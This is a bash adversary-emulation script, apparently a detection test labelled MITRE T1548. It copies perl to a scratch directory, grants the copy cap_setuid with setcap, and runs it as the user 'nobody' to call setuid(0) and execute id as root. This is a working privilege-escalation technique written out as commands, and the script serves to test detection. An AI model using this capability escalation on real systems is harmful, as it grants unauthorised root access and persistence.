#!/bin/bash
# vigil-emulation: attack
# technique: T1548 Abuse Elevation Control Mechanism
# tactic: privilege-escalation, persistence
# what: copies perl to a scratch directory, gives the copy cap_setuid with setcap, and an
#   unprivileged user (nobody, via setpriv) runs it to call setuid(0) and exec `id` as
#   root (the GTFOBins capabilities escalation); removed at the end.
# report: file capabilities (cap_setuid) set on an interpreter copy outside the package
#   manager, then used by an unprivileged user to become root.
# expect: capabilit|setcap|cap_setuid
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need setcap perl setpriv

emul_tmpdir /var/tmp
chmod 755 "$EMUL_DIR"
cp "$(readlink -f "$(command -v perl)")" "$EMUL_DIR/perl"
setcap cap_setuid+ep "$EMUL_DIR/perl"
getcap "$EMUL_DIR/perl"
setpriv --reuid=nobody --regid=nogroup --clear-groups \
    "$EMUL_DIR/perl" -e 'use POSIX qw(setuid); POSIX::setuid(0); exec "/usr/bin/id";'
